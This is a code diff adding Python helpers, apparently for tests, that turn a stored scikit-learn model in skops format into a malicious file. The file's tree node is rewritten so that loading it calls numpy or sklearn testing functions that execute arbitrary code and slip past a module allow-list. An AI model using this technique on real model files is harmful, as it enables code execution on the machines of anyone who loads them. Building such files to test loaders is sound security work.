@@ -213,3 +213,54 @@ def pandas_live_figures(g) -> dict:
         "violation_rate_any": g["violates_any"].mean(),
         "violation_rate_beyond_noise": g["violates_any_beyond_noise"].mean(),
     }
+
+
+#: functions that pass a module-prefix allow-list ("numpy.", "sklearn.") and run code when
+#: skops calls them from a reduce node: (qualified name, its arguments given the code)
+CODE_RUNNERS = {
+    "numpy.testing._private.utils.runstring": lambda code: [code, {}],
+    "numpy.testing._private.utils.measure": lambda code: [code],
+    "sklearn.utils._testing.assert_run_python_script_without_output": lambda code: [code, ".+"],
+}
+
+
+def _skops_value(v):
+    """A skops schema node holding the plain value ``v`` (a str or an empty dict)."""
+    import json
+
+    if isinstance(v, dict):
+        return {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {},
+                "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
+                              "content": []}}
+    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
+            "content": json.dumps(v), "is_json": True}
+
+
+def crafted_skops(data: bytes, function: str, code: str) -> bytes:
+    """A stored router (skops bytes holding a fitted scikit-learn tree) rewritten as an
+    attacker would: the tree's node becomes a reduce node that calls ``function`` (one of CODE_RUNNERS) with
+    ``code`` instead of building the tree."""
+    import io
+    import json
+    import zipfile
+
+    src = zipfile.ZipFile(io.BytesIO(data))
+    schema = json.loads(src.read("schema.json"))
+    module, _, name = function.rpartition(".")
+
+    def rewrite(node) -> bool:
+        if isinstance(node, dict):
+            if node.get("__class__") == "Tree" and "__reduce__" in node:
+                # skops's LossNode calls the constructor its state names (its TreeNode would not)
+                node["__class__"], node["__module__"], node["__loader__"] = name, module, "LossNode"
+                node["__reduce__"]["args"]["content"] = [_skops_value(a) for a in CODE_RUNNERS[function](code)]
+                return True
+            return any(rewrite(v) for v in node.values())
+        return isinstance(node, list) and any(rewrite(v) for v in node)
+
+    assert rewrite(schema), "no scikit-learn tree in the stored router"
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as dst:
+        for item in src.namelist():
+            dst.writestr(item, json.dumps(schema) if item == "schema.json" else src.read(item))
+    return out.getvalue()
